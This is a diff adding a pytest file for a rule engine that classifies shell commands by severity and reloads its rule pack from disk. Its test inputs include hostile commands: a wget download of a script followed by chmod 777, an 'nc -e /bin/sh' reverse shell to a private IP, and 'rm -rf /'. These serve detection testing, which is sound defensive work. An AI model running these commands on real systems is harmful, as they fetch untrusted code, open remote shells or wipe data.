@@ -0,0 +1,60 @@
+# test_rules.py - compiled rule packs and hot reload
+import json, os
+
+import pytest
+
+from rules import CompiledPack, RuleEngine, DEFAULT_PACK
+
+
+@pytest.fixture
+def pack():
+    return CompiledPack(DEFAULT_PACK)
+
+
+def test_classification(pack):
+    assert pack.classify("ls -la") == {"severity": "low", "tags": [], "note": "OK"}
+    v = pack.classify("wget http://x.example/a.sh; chmod 777 a.sh")
+    assert v["severity"] == "critical"
+    assert set(v["tags"]) == {"wget", "chmod"}
+    assert pack.classify("")["note"] == "empty"
+
+def test_longer_rule_credits_the_ones_inside_it():
+    pack = CompiledPack({"rules": [{"pattern": "rm -rf", "tag": "wipe", "severity": "critical"},
+                                   {"pattern": "rm", "tag": "rm"}]})
+    v = pack.classify("RM -RF /")
+    assert v["severity"] == "critical"
+    assert set(v["tags"]) == {"wipe", "rm"}
+    assert pack.classify("rmdir x")["tags"] == []
+
+def test_word_boundaries(pack):
+    assert "nc" in pack.classify("nc -e /bin/sh 10.0.0.5 4444")["tags"]
+    assert pack.classify("ncat --version")["tags"] == []
+    assert pack.classify("xcurl http://a")["tags"] == ["curl"]   # "curl http" is not word-bounded
+
+def test_escalation_by_number_of_tags():
+    pack = CompiledPack({"escalation": {"2": "high"},
+                         "rules": [{"pattern": "id", "tag": "id"}, {"pattern": "uname", "tag": "uname"}]})
+    assert pack.classify("id")["severity"] == "low"
+    assert pack.classify("id; uname -a")["severity"] == "high"
+
+def test_unknown_severity_is_rejected():
+    with pytest.raises(ValueError):
+        CompiledPack({"rules": [{"pattern": "x", "severity": "urgent"}]})
+
+def test_reload_swaps_the_pack_and_keeps_it_on_errors(tmp_path):
+    path = tmp_path / "rules.json"
+    path.write_text(json.dumps({"rules": [{"pattern": "uname", "tag": "recon", "severity": "high"}]}))
+    engine = RuleEngine(str(path), check_interval=0)
+    assert engine.classify("uname -a")["severity"] == "high"
+    assert engine.classify("rm -rf /")["severity"] == "low"    # defaults replaced
+
+    path.write_text("{not json")
+    os.utime(path, (1, 1))
+    assert engine.classify("uname -a")["severity"] == "high"   # previous pack kept
+
+    path.write_text(json.dumps({"rules": [{"pattern": "uname", "tag": "recon", "severity": "critical"}]}))
+    os.utime(path, (2, 2))
+    assert engine.classify("uname -a")["severity"] == "critical"
+
+    path.unlink()
+    assert engine.classify("rm -rf /")["severity"] == "critical"   # back to the defaults